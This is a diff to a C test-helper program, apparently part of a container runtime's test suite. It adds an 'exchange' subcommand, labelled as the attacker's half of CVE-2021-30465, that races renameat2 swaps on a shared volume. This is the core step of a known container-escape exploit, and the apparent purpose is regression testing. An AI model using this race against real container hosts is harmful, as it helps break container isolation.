@@ -26,6 +26,7 @@
 #include <linux/seccomp.h>
 #include <sys/sysmacros.h>
 #include <sys/utsname.h>
+#include <time.h>
 #include <unistd.h>
 
 extern char **environ;
@@ -277,6 +278,18 @@ static int do_hunt_exe(const char *fifo) {
     return 1;
 }
 
+/* CVE-2021-30465, the attacker's half: swap two entries of a shared volume with
+ * renameat2(RENAME_EXCHANGE) as fast as possible for `seconds`. */
+static int do_exchange(const char *a, const char *b, int seconds) {
+    time_t end = time(NULL) + seconds;
+    long n = 0;
+    while (time(NULL) < end) {
+        for (int i = 0; i < 1000; i++, n++) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
+    }
+    printf("exchanges=%ld\n", n);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (argc < 2 || strcmp(argv[1], "report") == 0) return report();
@@ -295,6 +308,7 @@ int main(int argc, char **argv) {
         return 0;
     }
     if (strcmp(argv[1], "hunt-exe") == 0 && argc > 2) return do_hunt_exe(argv[2]);
+    if (strcmp(argv[1], "exchange") == 0 && argc > 4) return do_exchange(argv[2], argv[3], atoi(argv[4]));
     if (strcmp(argv[1], "exit") == 0 && argc > 2) return atoi(argv[2]);
     if (strcmp(argv[1], "sleep") == 0 && argc > 2) { sleep((unsigned)atoi(argv[2])); return 0; }
     if (strcmp(argv[1], "env") == 0) { for (char **e = environ; *e; e++) puts(*e); return 0; }
